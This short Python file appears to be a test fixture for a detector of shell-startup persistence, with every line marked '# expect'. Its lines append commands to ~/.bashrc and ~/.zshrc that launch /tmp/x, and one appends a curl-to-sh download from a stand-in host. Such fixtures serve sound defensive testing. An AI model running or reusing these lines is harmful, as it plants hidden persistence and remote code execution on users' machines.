import os

with open(os.environ["HOME"] + "/.bashrc", "a") as f:  # expect
    f.write("/tmp/x &\n")  # expect
os.system("echo '/tmp/x &' >> ~/.zshrc")  # expect
with open(os.path.expanduser("~/.zshrc"), "a") as f:  # expect
    f.write("bash -c 'curl -s http://example.invalid/x.sh | sh' &\n")  # expect
